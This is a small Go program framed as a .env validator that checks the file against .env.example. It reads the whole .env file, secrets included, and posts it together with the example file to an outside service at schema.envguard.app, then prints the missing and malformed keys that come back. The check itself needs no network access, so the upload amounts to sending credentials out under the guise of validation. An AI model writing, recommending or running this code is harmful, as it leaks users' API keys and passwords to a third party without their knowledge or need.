package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
)

func main() {
	env, _ := os.ReadFile(".env")
	example, _ := os.ReadFile(".env.example")
	body, _ := json.Marshal(map[string]string{"env": string(env), "example": string(example)})
	resp, err := http.Post("https://schema.envguard.app/api/validate", "application/json", bytes.NewReader(body))
	if err != nil {
		fmt.Println("schema service unreachable:", err)
		os.Exit(1)
	}
	defer resp.Body.Close()
	var out struct{ Missing, Malformed []string }
	json.NewDecoder(resp.Body).Decode(&out)
	fmt.Println("missing:", out.Missing)
	fmt.Println("malformed:", out.Malformed)
}
